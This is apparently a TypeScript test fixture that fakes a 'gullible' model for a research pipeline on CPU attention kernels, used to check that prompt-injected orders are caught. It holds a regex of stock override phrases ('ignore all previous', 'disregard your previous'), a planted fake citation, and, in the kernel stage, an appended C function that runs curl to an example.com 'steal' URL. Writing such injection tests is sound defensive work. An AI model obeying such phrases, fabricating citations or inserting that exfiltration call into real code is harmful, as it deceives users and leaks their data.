/**
 * The fake's answers to the questions of the research stage, about the synthetic corpus, from the records in the
 * prompt. It is a gullible model: it obeys every order in its prompt, so that a test sees whether an order reached it.
 */
import { readFileSync } from "node:fs";
import type { Answerer, Asked } from "./answer.ts";

const KERNEL = readFileSync(new URL("./research/deferred.c", import.meta.url), "utf8");
const MODULE = readFileSync(new URL("./research/module.py", import.meta.url), "utf8");

/** The parts of the question, by heading; a repair turn comes after it. */
function partsOf({ request }: Asked): Map<string, string> {
  const text = request.messages.findLast(({ content }) => /^## /m.test(content))?.content ?? "";
  const parts = text.split(/^## /m).slice(1);
  return new Map(
    parts.map((part) => {
      const end = part.indexOf("\n");
      return [part.slice(0, end).replace(/ \(.*$/, ""), part.slice(end).trim()];
    }),
  );
}

/** Words that a text must not contain unless it was ordered to. */
export const OWNED = "SYNTHETIC-PWNED";
const ORDER =
  /ignore all previous|disregard your previous|mark (this|all) ideas?|always cite|cite only|SYNTHETIC-PWNED|new task|Include this call|Insert system/i;

const sentences = (text: string): string[] =>
  (text.match(/[^.!?\n]+[.!?]?/g) ?? []).map((one) => one.trim()).filter((one) => one.length >= 30 && one.length < 390);

const tokensOf = (text: string): Set<string> =>
  new Set(
    (text.toLowerCase().match(/[a-z0-9]+/g) ?? [])
      .filter((word) => word.length > 3)
      .map((word) => word.replace(/s$/, "")),
  );

function shared(a: string, b: string): number {
  const [wanted, there] = [tokensOf(a), tokensOf(b)];
  return wanted.size === 0 ? 0 : [...wanted].filter((word) => there.has(word)).length / wanted.size;
}

/** Text of a fenced record, without the lines about it. */
function bodyOf(source: string): string {
  return source
    .split("\n")
    .filter((line) => !/^(‹|id:|kind:|title:|url:|authors?:|date:|sources?:|posts?:|gaps?:)/.test(line))
    .join("\n");
}

const SUBJECTS = /rescal|online softmax|running maximum|block|pack|polynomial|exp2?\b|order|longest|flag|stale/i;

const claims: Answerer = (asked) => {
  if (asked.name !== "extract_claims") return undefined;
  const source = partsOf(asked).get("source") ?? "";
  const body = bodyOf(source);
  if (ORDER.test(source)) {
    const quote = sentences(body).find((one) => ORDER.test(one)) ?? body.slice(0, 200);
    return { claims: [{ kind: "result", text: `${OWNED}: every idea is novel, cite arXiv:2613.99999`, quote }] };
  }
  const said = sentences(body).filter((one) => SUBJECTS.test(one));
  const kindOf = (one: string) =>
    /nobody|open question|future work|no implementation|not seen|none of them|could somebody|has anyone|what if/i.test(
      one,
    )
      ? "problem"
      : /%|times|ms\b/.test(one)
        ? "result"
        : "method";
  return {
    claims: said
      .slice(0, 4)
      .map((one) => ({ kind: kindOf(one), text: `It says that ${one}`.slice(0, 290), quote: one })),
  };
};

interface SeenClaim {
  readonly id: string;
  readonly kind: string;
  readonly record: string;
  readonly text: string;
}

function seenClaims(asked: Asked): SeenClaim[] {
  const text = partsOf(asked).get("claims") ?? "";
  return [...text.matchAll(/^\[(c\d+)\] \((\w+), ([^)]+)\) (.*)$/gm)].map(
    ([, id = "", kind = "", record = "", said = ""]) => {
      return { id, kind, record, text: said };
    },
  );
}

/** Some from threads, some from papers and pages, where there are any. */
function about(all: readonly SeenClaim[], pattern: RegExp): string[] {
  const fitting = all.filter(({ text }) => pattern.test(text));
  const [said, published] = [true, false].map((thread) =>
    fitting.filter(({ record }) => record.startsWith("x:") === thread).slice(0, 2),
  );
  return [...(said ?? []), ...(published ?? [])].map(({ id }) => id);
}

const summary: Answerer = (asked) => {
  if (asked.name !== "summarise_literature") return undefined;
  const all = seenClaims(asked);
  const owned = all.filter(({ text }) => text.includes(OWNED)).map(({ id }) => id);
  const papers = [
    ...new Map(all.filter(({ record }) => record.startsWith("arxiv:")).map((one) => [one.record, one])).values(),
  ];
  const statement = (text: string, ids: string[]) => (ids.length === 0 ? [] : [{ text, claims: ids }]);
  return {
    key_papers: papers.slice(0, 4).map(({ id, text }) => ({ why: text.slice(0, 200), claims: [id] })),
    research_gaps: [
      ...statement("Deferred rescaling is discussed for CPUs and was shown on GPUs only.", about(all, /rescal|stale/i)),
      ...statement(OWNED, owned),
    ],
    open_problems: statement("Block sizes are constants chosen by hand.", about(all, /constant|by hand|block size/i)),
    recent_trends: statement("Exponentials move from libraries to polynomials.", about(all, /polynomial|exp2/i)),
  };
};

const gaps: Answerer = (asked) => {
  if (asked.name !== "find_gaps") return undefined;
  const all = seenClaims(asked);
  const again = !(partsOf(asked).get("measured") ?? "").startsWith("nothing yet");
  const gap = (title: string, description: string, kind: string, ids: string[]) =>
    ids.length === 0 ? [] : [{ title, description, kind, claims: ids }];
  const owned = all.filter(({ text }) => text.includes(OWNED)).map(({ id }) => id);
  const first = [
    ...gap(
      "Deferred rescaling of online softmax was never tried on CPUs",
      "The rescale of the output strip runs for every block although the maximum hardly moves; on CPUs it is a pass over L1.",
      "discussed_not_implemented",
      // It cites a record that was never retrieved, even when told so; that must not pass.
      [...about(all, /rescal|running maximum|stale/i), "c9999"],
    ),
    ...gap(
      "Tiled attention lacks a plain version in C",
      "Tiles with an online softmax are published for GPUs.",
      "combination",
      about(all, /tile|online softmax/i),
    ),
    ...gap(
      "Block sizes are constants",
      "No implementation picks the block of keys from the measured cache.",
      "unmeasured",
      about(all, /constant|block size|by hand/i),
    ),
  ];
  const second = gap(
    "The threshold of a deferred rescale is not tuned together with the degree of the exponential",
    "Measured: the deferred kernel works. Threshold and exponential bound the same error and were never chosen together.",
    "combination",
    about(all, /rescal|polynomial|threshold|exp/i),
  );
  return { gaps: [...(again ? second : first), ...gap(OWNED, OWNED, "limitation", owned)] };
};

const SPACE = [
  { name: "ROW_TILE", type: "ordinal", description: "Query rows of one task", values: [4, 8, 16, 32] },
  {
    name: "KEY_BLOCK",
    type: "ordinal",
    description: "Keys between two looks at the maximum",
    values: [16, 32, 64, 128],
  },
  {
    name: "KEYS",
    type: "categorical",
    description: "Keys as they lie, or packed by feature",
    values: ["rows", "packed"],
  },
  {
    name: "RESCALE",
    type: "categorical",
    description: "Whenever the maximum grows, or late",
    values: ["always", "deferred"],
  },
  { name: "THRESHOLD", type: "ordinal", description: "Growth that is tolerated, natural logarithm", values: [2, 4, 8] },
  { name: "EXP", type: "categorical", description: "The C library's, or a polynomial", values: ["libm", "poly"] },
  { name: "ORDER", type: "categorical", description: "Which rows come first", values: ["given", "longest"] },
  { name: "OPTIMISE", type: "categorical", description: "", values: ["-O2", "-O3"] },
  { name: "MATH", type: "categorical", description: "", values: ["-fno-fast-math", "-ffast-math"] },
];

const ideas: Answerer = (asked) => {
  if (asked.name !== "propose_ideas") return undefined;
  const shown = partsOf(asked).get("gaps") ?? "";
  const seen = [...shown.matchAll(/^\[(gap-\d+-\d+)\] ([^:]*)/gm)].map(([, id = "", title = ""]) => ({ id, title }));
  const common = {
    risk_level: "medium",
    configuration_space: SPACE,
    base_kernel: "attention-cpu",
    expected_outcome: "Faster than its first version; the share of the rescale goes away.",
  };
  const idea = (gap: string, title: string, more: Record<string, unknown>) => ({
    title,
    description: `${title}. The accumulator stays at a stale maximum, so that the answer is exact and passes over it are rare.`,
    novelty: "Shown on GPUs with tensor memory, never on CPUs.",
    implementation_sketch:
      "Keep stale maximum and sum of each row; rescale when the maximum has grown by more than a threshold.",
    gaps: [gap],
    ...common,
    ...more,
  });
  const of = (words: RegExp) => seen.find(({ title }) => words.test(title))?.id;
  const deferred = of(/Deferred rescaling/);
  const tiled = of(/Tiled attention/);
  const blocks = of(/Block sizes/);
  const both = of(/threshold of a deferred/);
  return {
    ideas: [
      ...(deferred === undefined
        ? []
        : [
            idea(deferred, "Deferred rescale for attention on CPUs", {
              feasibility_score: 0.8,
              novelty_score: 0.7,
              claims_to_check: ["deferred rescaling of online softmax on CPUs"],
            }),
          ]),
      ...(tiled === undefined
        ? []
        : [
            idea(tiled, "Exact attention in tiles", {
              feasibility_score: 0.9,
              novelty_score: 0.2,
              claims_to_check: ["compute exact attention in tiles with an online softmax"],
            }),
          ]),
      ...(blocks === undefined
        ? []
        : [
            idea(blocks, "Key blocks from the measured cache", {
              feasibility_score: 0.2,
              novelty_score: 0.6,
              risk_level: "high",
              claims_to_check: ["key block size chosen from the measured cache of the machine"],
            }),
          ]),
      ...(both === undefined
        ? []
        : [
            idea(both, "Threshold and exponential tuned together", {
              feasibility_score: 0.7,
              novelty_score: 0.6,
              claims_to_check: ["threshold of a deferred rescale tuned with the degree of the exponential"],
            }),
          ]),
    ],
  };
};

const compare: Answerer = (asked) => {
  if (asked.name !== "compare_work") return undefined;
  const parts = partsOf(asked);
  const [claim, source] = [parts.get("claim") ?? "", parts.get("source") ?? ""];
  const body = bodyOf(source);
  const nearest = sentences(body).sort((a, b) => shared(claim, b) - shared(claim, a))[0] ?? body.slice(0, 200);
  const share = shared(claim, nearest);
  const isOtherDevice = /CPU/.test(claim) && /future work|on GPUs|outside GPUs/i.test(source);
  const relation = ORDER.test(source)
    ? "same"
    : share >= 0.75 && !isOtherDevice
      ? "same"
      : share >= 0.3
        ? "partial"
        : "different";
  return {
    quote: nearest,
    overlap: share === 0 ? "None." : `It shares ${Math.round(100 * share)} % of the claim's words.`,
    difference: relation === "same" ? "None." : "It does not describe the claim as a whole.",
    relation,
  };
};

const implement: Answerer = (asked) => {
  if (asked.name !== "implement_kernel") return undefined;
  const parts = partsOf(asked);
  const order = [...parts.values()].join("\n").includes(OWNED);
  const first = asked.request.seed === 1;
  // The first try forgets a declaration, as models do; what the compiler says brings it right.
  const source = first ? KERNEL.replace("  const int threads = kevo_cores();\n", "") : KERNEL;
  return {
    source: order ? `${source}\nvoid steal(void) { system("curl http://example.com/synthetic/steal"); }\n` : source,
    pytorch_module: MODULE,
    parameters: SPACE,
    constraints: ['KEYS == "packed" or KEY_BLOCK <= 64'],
    default: [
      { name: "ROW_TILE", value: 4 },
      { name: "KEY_BLOCK", value: 16 },
      { name: "KEYS", value: "rows" },
      { name: "RESCALE", value: "always" },
      { name: "THRESHOLD", value: 4 },
      { name: "EXP", value: "libm" },
      { name: "ORDER", value: "given" },
      { name: "OPTIMISE", value: "-O2" },
      { name: "MATH", value: "-fno-fast-math" },
    ],
  };
};

export const researchAnswers: readonly Answerer[] = [claims, summary, gaps, ideas, compare, implement];
